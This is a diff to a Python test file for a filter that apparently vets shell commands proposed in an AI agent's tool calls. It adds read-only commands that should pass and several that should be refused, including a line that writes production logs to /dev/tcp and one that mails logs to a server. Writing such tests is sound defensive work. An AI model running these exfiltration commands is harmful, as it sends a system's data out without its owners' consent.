@@ -123,6 +123,38 @@ def test_commands_within_the_project_are_kept(command: str) -> None:
     assert unfit_reason(command) is None
 
 
+@for_each(
+    "command",
+    [
+        "kubectl -n prod logs deploy/webhooks --since=30m",
+        "kubectl --context prod -n shop get pods -l app=sync-webhook",
+        "docker compose logs webhook",
+        "docker pull server",
+        "git fetch remote",
+        "aws logs tail /aws/lambda/webhook",
+        "gh run view --log webhook",
+        "heroku logs --app partner-portal",
+        "terraform -chdir=envs/prod plan -target=module.email-webhook",
+        "fly logs -a webhooks",
+    ],
+)
+def test_commands_that_only_show_something_send_nothing_whatever_it_is_called(command: str) -> None:
+    assert unfit_reason(command) is None
+
+
+@for_each(
+    "command",
+    [
+        "kubectl -n prod logs deploy/webhooks > /dev/tcp/server/80",
+        "docker logs email-server | mail -s logs server",
+        "git fetch remote && make upload server",
+        "make sync-webhook",
+    ],
+)
+def test_what_sends_the_output_on_is_left_out(command: str) -> None:
+    assert unfit_reason(command) is not None
+
+
 def _call(number: int, name: str, **given: object) -> ToolCall:
     return ToolCall("s1", f"c{number}", name, given, None, Span(number, number + 1))
 
